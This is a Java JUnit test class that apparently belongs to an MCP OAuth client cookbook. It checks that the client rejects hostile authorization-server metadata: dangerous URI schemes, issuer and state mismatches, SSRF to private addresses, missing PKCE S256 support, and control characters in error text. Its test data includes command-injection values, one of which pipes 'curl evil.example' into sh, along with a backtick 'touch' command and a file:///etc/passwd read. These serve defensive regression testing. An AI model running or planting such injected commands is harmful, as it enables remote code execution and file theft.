package dev.mcpoauth.cookbook.keycloakdcr;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import dev.mcpoauth.cookbook.keycloakdcr.authorization.AuthorizationUserAgent;
import dev.mcpoauth.cookbook.keycloakdcr.authorization.RedirectFetchingUserAgent;
import dev.mcpoauth.cookbook.keycloakdcr.http.McpAuthorizationException;
import dev.mcpoauth.cookbook.keycloakdcr.token.InMemoryTokenStore;
import dev.mcpoauth.cookbook.keycloakdcr.token.TokenSet;
import java.net.URI;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A malicious or broken MCP server hands the client bad metadata. The client must refuse each
 * with a clear error before it fetches, opens or registers anything at the bad URL.
 */
@ParameterizedClass(name = "on {0}")
@EnumSource(Wire.class)
class HostileMetadataTest {

    @Parameter
    Wire wire;

    private HostileServer server;
    private final AtomicInteger browserOpened = new AtomicInteger();
    private final AuthorizationUserAgent recordingBrowser = (Function<URI, URI> urlFor) -> {
        browserOpened.incrementAndGet();
        throw new AssertionError("the browser must never be opened");
    };

    @BeforeEach
    void start() throws Exception {
        server = new HostileServer();
    }

    @AfterEach
    void stop() {
        server.close();
    }

    static Stream<Arguments> dangerousEndpoints() {
        return Stream.of(
                argumentSet("a javascript: URI", "javascript:alert(document.cookie)"),
                argumentSet("a javascript: URI in mixed case", "JaVaScRiPt:alert(1)"),
                argumentSet("a javascript: URI after a leading space", " javascript:alert(1)"),
                argumentSet("a file: URI", "file:///etc/passwd"),
                argumentSet("a data: URI with a script", "data:text/html,<script>alert(1)</script>"),
                argumentSet("a shell command substitution in the query", "https://auth.example/authorize?x=$(curl evil.example|sh)"),
                argumentSet("shell backticks in the path", "https://auth.example/authorize`touch /tmp/pwned`"),
                argumentSet("a NUL byte in the path", "https://auth.example/authorize\u0000.evil"),
                argumentSet("a program name, no URL at all", "calc.exe"),
                argumentSet("plain http off loopback", "http://auth.example.com/authorize"));
    }

    /** CVE-2025-6514: an authorization_endpoint the client would hand to a shell or a browser. */
    @ParameterizedTest
    @MethodSource("dangerousEndpoints")
    void refusesADangerousAuthorizationEndpoint(String endpoint) {
        server.serverMetadata(m -> m.put("authorization_endpoint", endpoint));

        assertRefused("authorization_endpoint");

        assertThat(server.requestedPaths()).doesNotContain("POST /register");
    }

    @Test
    void refusesAPlainHttpTokenEndpointOffLoopback() {
        server.serverMetadata(m -> m.put("token_endpoint", "http://auth.example.com/token"));

        assertRefused("token_endpoint is http on a non-loopback host");
    }

    @Test
    void refusesAServerWithoutS256() {
        server.serverMetadata(m -> m.put("code_challenge_methods_supported", List.of("plain")));

        assertRefused("does not list S256 in code_challenge_methods_supported");
        assertThat(server.requestedPaths()).doesNotContain("POST /register");
    }

    @Test
    void refusesAServerThatDoesNotListPkceAtAll() {
        server.serverMetadata(m -> m.remove("code_challenge_methods_supported"));

        assertRefused("does not list S256");
    }

    @Test
    void refusesMetadataWhoseIssuerIsNotTheOneAskedFor() {
        server.serverMetadata(m -> m.put("issuer", "https://accounts.other.example"));

        assertRefused("names issuer https://accounts.other.example, but it was fetched for " + server.origin());
    }

    @Test
    void refusesResourceMetadataForAnotherResource() {
        server.resourceMetadata(m -> m.put("resource", "https://api.other.example/mcp"));

        assertRefused("is for https://api.other.example/mcp, not for " + server.mcpUrl());
        assertThat(server.requestedPaths()).doesNotContain("GET /.well-known/oauth-authorization-server");
    }

    @Test
    void refusesAnAuthorizationServerWithADangerousUrl() {
        server.resourceMetadata(m -> m.put("authorization_servers", List.of("file:///etc/passwd")));

        assertRefused("authorization_servers entry uses the scheme 'file'");
    }

    @Test
    void refusesAnAuthorizationResponseFromAnotherIssuer() {
        server.authorizationResponse(r -> {
            r.put("iss", "https://evil.example");
            return r;
        });

        assertRefusedAfterTheRedirect("came from issuer https://evil.example, not " + server.origin());
    }

    @Test
    void refusesAnAuthorizationResponseWithoutIssWhenTheServerAnnouncesIt() {
        server.serverMetadata(m -> m.put("authorization_response_iss_parameter_supported", true))
                .authorizationResponse(r -> {
                    r.remove("iss");
                    return r;
                });

        assertRefusedAfterTheRedirect("lacks iss although");
    }

    @Test
    void refusesAnAuthorizationResponseWithAnotherState() {
        server.authorizationResponse(r -> {
            r.put("state", "forged-by-an-attacker");
            return r;
        });

        assertRefusedAfterTheRedirect("state does not match the request");
    }

    @Test
    void aServerSideClientRefusesToFetchFromNonPublicAddresses() {
        McpOAuthClient client = wire.client(server.mcpUrl()).userAgent(recordingBrowser)
                .publicAddressesOnly().build();

        assertThatThrownBy(client::connect)
                .satisfies(error -> assertThat(rootAuthorizationError(error)).isNotNull()
                        .extracting(Throwable::getMessage).asString()
                        .contains("resolves to the non-public address 127.0.0.1: refused (SSRF protection)"));
        assertThat(server.requestedPaths()).containsExactly("POST /mcp"); // the MCP server itself, never its metadata
    }

    @Test
    void stopsWhenTheServerRejectsATokenItWasJustIssued() {
        McpOAuthClient client = wire.client(server.mcpUrl()).userAgent(new RedirectFetchingUserAgent()).build();

        assertThatThrownBy(client::connect)
                .satisfies(error -> assertThat(rootAuthorizationError(error)).isNotNull()
                        .extracting(Throwable::getMessage).asString()
                        .contains("rejected a token it was issued moments ago"));
        assertThat(server.requestedPaths()).containsOnlyOnce("GET /authorize");
    }

    @Test
    void anUnreachableTokenEndpointKeepsTheStoredRefreshToken() {
        server.tokenEndpointStatus(503);
        InMemoryTokenStore store = new InMemoryTokenStore();
        store.saveTokens(server.mcpUrl(), new TokenSet(server.mcpUrl(), server.origin(), "old-access-token",
                "still-good-refresh-token", java.time.Instant.now().minusSeconds(5), "mcp:tools"));
        List<McpAuthorizationException> refreshErrors = new java.util.concurrent.CopyOnWriteArrayList<>();
        McpOAuthClient client = wire.client(server.mcpUrl()).tokenStore(store).userAgent(recordingBrowser)
                .listener(new McpOAuthListener() {
                    @Override
                    public void onRefreshError(McpAuthorizationException error) {
                        refreshErrors.add(error);
                    }
                }).build();

        assertThatThrownBy(client::connect)
                .satisfies(error -> assertThat(rootAuthorizationError(error)).isNotNull()
                        .extracting(Throwable::getMessage).asString().contains("answered HTTP 503 without an OAuth error"));
        assertThat(refreshErrors).isNotEmpty();
        assertThat(browserOpened).hasValue(0); // an outage is not a reason to send the user to sign in
        assertThat(store.loadTokens(server.mcpUrl()).orElseThrow().refreshToken()).isEqualTo("still-good-refresh-token");
    }

    @Test
    void serverTextWithControlCharactersIsNeutralisedInErrors() {
        server.serverMetadata(m -> m.put("issuer", "https://evil.example/\u001b[2J\nFAKE LOG LINE"));

        assertRefused("names issuer https://evil.example/?[2J?FAKE LOG LINE, but");
    }

    @Test
    void theRequestTimeoutOutlastsAPersonSigningIn() {
        assertThat(McpOAuthClient.DEFAULT_REQUEST_TIMEOUT).isGreaterThan(java.time.Duration.ofMinutes(5));
    }

    /** The browser step runs (a redirect-following agent), but the code is never redeemed. */
    private void assertRefusedAfterTheRedirect(String expectedMessagePart) {
        McpOAuthClient client = wire.client(server.mcpUrl()).userAgent(new RedirectFetchingUserAgent()).build();

        assertThatThrownBy(client::connect)
                .satisfies(error -> assertThat(rootAuthorizationError(error)).isNotNull()
                        .extracting(Throwable::getMessage).asString().contains(expectedMessagePart));
        assertThat(server.requestedPaths()).contains("GET /authorize").doesNotContain("POST /token");
    }

    private void assertRefused(String expectedMessagePart) {
        McpOAuthClient client = wire.client(server.mcpUrl()).userAgent(recordingBrowser).build();

        assertThatThrownBy(client::connect)
                .satisfies(error -> assertThat(rootAuthorizationError(error)).isNotNull()
                        .extracting(Throwable::getMessage).asString().contains(expectedMessagePart));
        assertThat(browserOpened).hasValue(0);
        assertThat(server.requestedPaths()).noneMatch(p -> p.contains("/authorize") || p.contains("/token"));
    }

    static McpAuthorizationException rootAuthorizationError(Throwable error) {
        for (Throwable t = error; t != null; t = t.getCause()) {
            if (t instanceof McpAuthorizationException e) {
                return e;
            }
        }
        return null;
    }
}
